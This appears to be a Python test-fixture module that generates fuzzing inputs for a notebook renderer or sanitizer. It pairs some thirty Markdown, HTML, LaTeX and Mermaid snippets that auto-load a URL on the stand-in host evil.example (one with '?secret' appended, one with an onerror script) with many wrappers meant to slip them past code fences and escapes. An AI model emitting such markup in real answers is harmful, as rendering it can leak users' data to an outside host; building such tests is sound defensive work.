"""Answers that try to load something when a notebook with them is opened."""

from __future__ import annotations

import random
from collections.abc import Iterator

URL = "http://evil.example/x.png"
LOADING = [
    f"![alt]({URL}?secret)",
    f"![]({URL})",
    f"![alt]( <{URL}> 'title')",
    f"![alt][ref]\n\n[ref]: {URL}",
    f"![ref]\n\n[ref]: {URL}",
    f"![![inner]({URL})]({URL})",
    f"[![alt]({URL})]({URL})",
    f'<img src="{URL}">',
    f"<IMG\nSRC={URL}>",
    f'<img/src="{URL}"/onerror=alert(1)>',
    f'<p style="background:url({URL})">styled</p>',
    f"<style>body{{background:url({URL})}}</style>",
    f'<link rel="stylesheet" href="{URL}">',
    f'<svg><image href="{URL}"/></svg>',
    f'<video poster="{URL}" src="{URL}"></video>',
    f'<audio src="{URL}" autoplay></audio>',
    f'<iframe src="{URL}"></iframe>',
    f'<object data="{URL}"></object>',
    f'<table background="{URL}"><tr><td>x</td></tr></table>',
    f'<input type="image" src="{URL}">',
    f'<picture><source srcset="{URL}"><img></picture>',
    f'<div><!-- --><img src="{URL}"><!-- --></div>',
    f"<?php ?><img src={URL}>",
    f"<![CDATA[<img src={URL}>]]>",
    f'&lt;img src="{URL}"&gt;<img src="{URL}">',
    f"$\\style{{background-image:url({URL})}}{{x}}$",
    f"$$\\require{{html}}\\style{{background:url({URL})}}{{x}}$$",
    f"$\\href{{{URL}}}{{x}}$ \\unicode{{x}} $\\includegraphics{{{URL}}}$",
    f'```mermaid\nflowchart TD\n  A@{{ img: "{URL}", label: "x", w: 60, h: 60 }}\n```',
    f"```mermaid\nflowchart TD\n  A[\"<img src='{URL}'>\"]\n```",
]
"""Each loads `URL` where it is taken as it is."""
AROUND = [
    "{0}",
    "text `{0}` text",
    "text ``{0}`` text",
    "text `a` {0} `b`",
    "text ` {0}",
    "text \\`{0}` text",
    "[a](`x) {0} `y`",
    "[a](<`x>) {0} `y`",
    "http://a.example/`{0}`",
    "www.a.example/`{0}`",
    "| a ` | b |\n|---|---|\n| ` | {0} |",
    "| `a | {0} | b` |\n|---|---|---|\n| 1 | 2 | 3 |",
    "```\n{0}\n```",
    "```python\nx\n~~~\n{0}\n```",
    "```\nx\n```~\n{0}\n```",
    "```\nx\n ```\n{0}\n```",
    "````\nx\n```\n{0}\n````",
    "~~~\nx\n```\n~~~\n{0}\n```",
    "- item\n  ```\n  x\n```\n{0}\n```",
    "> ```\n> x\n{0}\n```",
    "> ```\n> x\n> ```\n{0}",
    "1. one\n   ```\n   {0}\n   ```",
    "    {0}",
    "\t{0}",
    "para\n    {0}",
    '[x]: /u "\n```\n"\n{0}\n```',
    "[x]: /u '\n```\n'\n{0}\n```",
    "[x]:\n```\n{0}\n```",
    "\\begin{{x}}\n```\n\\end{{x}}\n{0}\n```",
    "```\n\\begin{{x}}\n```\n\\end{{x}}\n\n```\n{0}\n```",
    "`\\begin{{x}}` \\end{{x}} `{0}`",
    "\\\\( `\\\\) {0}`",
    "$ ` $ {0} `",
    "$\n```\n$\n{0}\n```",
    "$$\n```\n$$\n\n```\n{0}\n```",
    "@@0@@ `@@0@@ {0}`",
    "<div `>{0}</div>`",
    "<!-- `--> {0} `",
    "<a href='`'> {0} `",
    "\\<{0}",
    "\\\\{0}",
    "# {0}",
    "**{0}**",
    "~~{0}~~",
    "***\n{0}\n===",
    "{0}\n---",
    "- [ ] {0}",
    "<details>\n\n{0}\n\n</details>",
    "```{0}\n```",
    "```x `{0}`\n```\n{0}",
    "```\r\n{0}\r\n```\r{0}",
    "```\n{0}",
    "word\x0b```\x0c{0}\u2028```\u2029{0}\x85{0}",
]
"""Where it may stand; `{0}` is what loads."""


def every_answer() -> list[str]:
    """Each of `LOADING` in each place, as one answer a pair."""
    return [
        around.replace("{{", "{").replace("}}", "}").replace("{0}", what)
        for around in AROUND
        for what in LOADING
    ]


def mixed_answers(chance: random.Random) -> Iterator[str]:
    """Several of them one after another, and torn apart, without end."""
    answers = every_answer()
    pieces = ["`", "``", "```", "```\n", "\n```\n", "~~~\n", "\n\n", "\n", "    ", "> ", "- ", "$", "$$", "\\", "\\begin{x}", "\\end{x}", "|", "<", "![", "](", "]:", "[", "@@0@@", "{", "}"]  # fmt: skip
    while True:
        text = "\n\n".join(chance.sample(answers, chance.randint(1, 4)))
        for _ in range(chance.randint(0, 6)):
            at = chance.randrange(len(text) + 1)
            text = text[:at] + chance.choice(pieces) + text[at:]
        yield text
